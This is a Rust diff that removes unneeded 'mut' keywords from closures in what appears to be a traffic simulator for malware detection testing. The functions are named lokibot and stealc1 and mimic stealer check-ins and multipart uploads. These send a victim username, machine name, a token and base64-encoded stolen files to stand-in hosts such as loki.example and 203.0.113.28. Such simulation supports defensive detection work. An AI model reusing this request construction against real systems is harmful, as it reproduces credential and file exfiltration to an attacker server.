@@ -352,7 +352,7 @@ fn azorult(net: &mut Net) {
 fn lokibot(net: &mut Net) {
     browsing(net, VICTIM);
     net.resolve(VICTIM, "loki.example", "203.0.113.25");
-    let mut report = |net: &mut Net, kind: u8, length: usize| {
+    let report = |net: &mut Net, kind: u8, length: usize| {
         let mut body = vec![0x12, 0, kind, 0, 0, 0, 0x0a, 0, 0, 0];
         body.extend(b"XXXXX11111");
         for text in ["erika", "EXAMPLE-PC", "EXAMPLE-PC"] {
@@ -588,7 +588,7 @@ fn stealc1(net: &mut Net) {
     let mut tcp = net.tcp(VICTIM, "203.0.113.28:80");
     let b = "----AFBKKEBAKJDGHJJKFIDG";
     let kind = format!("Content-Type: multipart/form-data; boundary={b}");
-    let mut say = |net: &mut Net, tcp: &mut crate::net::Tcp, fields: &[(&str, &str)], answer: &str| {
+    let say = |net: &mut Net, tcp: &mut crate::net::Tcp, fields: &[(&str, &str)], answer: &str| {
         let mut body: Vec<u8> =
             fields.iter().flat_map(|(name, value)| part(b, name, None, value.as_bytes())).collect();
         body.extend(end(b));
@@ -627,7 +627,7 @@ fn stealc1(net: &mut Net) {
         );
         response(net, &mut tcp, "200 OK", "application/x-msdos-program", &program(4100));
     }
-    let mut say = |net: &mut Net, tcp: &mut crate::net::Tcp, name: &str, data: &[u8]| {
+    let say = |net: &mut Net, tcp: &mut crate::net::Tcp, name: &str, data: &[u8]| {
         let mut body = part(b, "token", None, token.as_bytes());
         body.extend(part(b, "file_name", None, B64.encode(name).as_bytes()));
         body.extend(part(b, "file", None, B64.encode(data).as_bytes()));
